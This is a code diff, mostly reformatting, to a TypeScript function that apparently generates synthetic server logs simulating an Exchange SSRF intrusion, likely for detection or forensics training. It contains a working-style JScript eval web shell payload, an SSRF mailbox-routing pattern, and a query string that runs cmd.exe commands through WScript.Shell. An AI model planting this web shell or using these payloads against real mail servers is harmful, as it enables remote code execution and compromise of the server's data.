@@ -52,8 +52,16 @@ export function planAttack(rng: Rng, world: World): AttackPlan {
   at(ssrfTime - 146_000, (ctx, s) => {
     const r = newRequest(s, ssrfTime - 146_000, 'Owa', ctx.rng.guid());
     Object.assign(r, {
-      urlHost: EXTERNAL_HOST, urlStem: '/owa/', userAgent: PYTHON, clientIp: attackerA, status: 302, proxied: false,
-      targetServer: '', routingType: '', genericInfoExtra: 'NoCookies=302 - GET/E14AuthPost;', duration: 1,
+      urlHost: EXTERNAL_HOST,
+      urlStem: '/owa/',
+      userAgent: PYTHON,
+      clientIp: attackerA,
+      status: 302,
+      proxied: false,
+      targetServer: '',
+      routingType: '',
+      genericInfoExtra: 'NoCookies=302 - GET/E14AuthPost;',
+      duration: 1,
     });
     ctx.batch.proxy(r);
   });
@@ -64,23 +72,35 @@ export function planAttack(rng: Rng, world: World): AttackPlan {
     at(time, (ctx, s) => {
       const r = newRequest(s, time, 'Ecp', ctx.rng.guid());
       Object.assign(r, {
-        method, urlHost: EXTERNAL_HOST, urlStem: '/ecp/y.js', anchorMailbox: `ServerInfo~a]@${host}:444${backend}#`,
-        userAgent: ua, clientIp: attackerA, status, targetServer: host, routingHint: 'X-BEResource-Cookie',
-        requestBytes: method === 'POST' ? ctx.rng.range(300, 1400) : 0, responseBytes: ctx.rng.range(200, 3000),
+        method,
+        urlHost: EXTERNAL_HOST,
+        urlStem: '/ecp/y.js',
+        anchorMailbox: `ServerInfo~a]@${host}:444${backend}#`,
+        userAgent: ua,
+        clientIp: attackerA,
+        status,
+        targetServer: host,
+        routingHint: 'X-BEResource-Cookie',
+        requestBytes: method === 'POST' ? ctx.rng.range(300, 1400) : 0,
+        responseBytes: ctx.rng.range(200, 3000),
         duration: ctx.rng.range(20, 400),
       });
       for (const [i, cmd] of (ecp ?? []).entries()) {
         ctx.batch.ecp({
-          time: time - 40 + i * 9, cmd, url: backend.replace(/\?#$/, ''), durationMs: ctx.rng.range(30, 900),
-          sessionId: ctx.rng.guid(), activityId: ctx.rng.guid(), userSessionId: ctx.rng.guid(),
+          time: time - 40 + i * 9,
+          cmd,
+          url: backend.replace(/\?#$/, ''),
+          durationMs: ctx.rng.range(30, 900),
+          sessionId: ctx.rng.guid(),
+          activityId: ctx.rng.guid(),
+          userSessionId: ctx.rng.guid(),
         });
       }
       ctx.batch.proxy(r);
     });
   };
 
-  const payload =
-    `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["${param}"],"unsafe");}</script>`;
+  const payload = `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["${param}"],"unsafe");}</script>`;
   const webShellWrittenTime = t(17);
   ssrf(ssrfTime, 'POST', '/autodiscover/autodiscover.xml?', 200, EWS_CLIENT);
   ssrf(t(2), 'POST', '/mapi/emsmdb?', 200, PYTHON);
@@ -98,7 +118,9 @@ export function planAttack(rng: Rng, world: World): AttackPlan {
   ]);
   at(webShellWrittenTime + 1200, (ctx) => {
     ctx.batch.oab({
-      time: webShellWrittenTime + 1200, level: 'Error', threadId: 37,
+      time: webShellWrittenTime + 1200,
+      level: 'Error',
+      threadId: 37,
       message: `Download failed and temporary file '${webShellPath}' needs to be removed.`,
     });
   });
@@ -107,20 +129,40 @@ export function planAttack(rng: Rng, world: World): AttackPlan {
   const shell = (time: number, ip: string, method: 'GET' | 'POST', query: string, ua: string): void => {
     at(time, (ctx, s) => {
       ctx.batch.iis({
-        time, serverIp: s.ip, method, stem: webShellUrl, query, port: 443, user: '', clientIp: ip, userAgent: ua,
-        referer: '', status: 200, subStatus: 0, win32Status: 0, timeTaken: ctx.rng.range(15, 2500),
+        time,
+        serverIp: s.ip,
+        method,
+        stem: webShellUrl,
+        query,
+        port: 443,
+        user: '',
+        clientIp: ip,
+        userAgent: ua,
+        referer: '',
+        status: 200,
+        subStatus: 0,
+        win32Status: 0,
+        timeTaken: ctx.rng.range(15, 2500),
       });
     });
   };
   shell(t(52), attackerA, 'GET', '', PYTHON);
   shell(t(61), attackerA, 'GET', 'cmd=whoami', PYTHON);
-  const exec = (cmd: string): string =>
-    `${param}=Response.Write(new%20ActiveXObject(%22WScript.Shell%22).Exec(%22cmd.exe%20/c%20${cmd}%22).StdOut.ReadAll())`;
+  const exec = (cmd: string): string => `${param}=Response.Write(new%20ActiveXObject(%22WScript.Shell%22).Exec(%22cmd.exe%20/c%20${cmd}%22).StdOut.ReadAll())`;
   shell(t(75), attackerA, 'GET', exec('whoami'), PYTHON);
   shell(t(94), attackerA, 'GET', 'cmd=ipconfig%20/all', PYTHON);
   for (let i = 0; i < 9; i++) shell(t(120 + i * rng.range(25, 90)), attackerA, 'POST', '', PYTHON);
   // The second address takes over over the following days, as in the real incident.
-  const days: readonly [number, number][] = [[3, 4], [3, 5], [3, 5], [4, 1], [5, 22], [6, 3], [7, 14], [8, 2]];
+  const days: readonly [number, number][] = [
+    [3, 4],
+    [3, 5],
+    [3, 5],
+    [4, 1],
+    [5, 22],
+    [6, 3],
+    [7, 14],
+    [8, 2],
+  ];
   for (const [day, hour] of days) {
     const start = utc(3, day, hour, rng.range(0, 50), rng.range(0, 59), rng.range(0, 999));
     const n = rng.range(2, 6);
@@ -131,6 +173,14 @@ export function planAttack(rng: Rng, world: World): AttackPlan {
   shell(utc(3, 7, 14, 2, 13, 905), attackerA, 'POST', '', PYTHON);
 
   return {
-    attackerA, attackerB, shellName, webShellPath, webShellUrl, param, ssrfTime, webShellWrittenTime, events,
+    attackerA,
+    attackerB,
+    shellName,
+    webShellPath,
+    webShellUrl,
+    param,
+    ssrfTime,
+    webShellWrittenTime,
+    events,
   };
 }
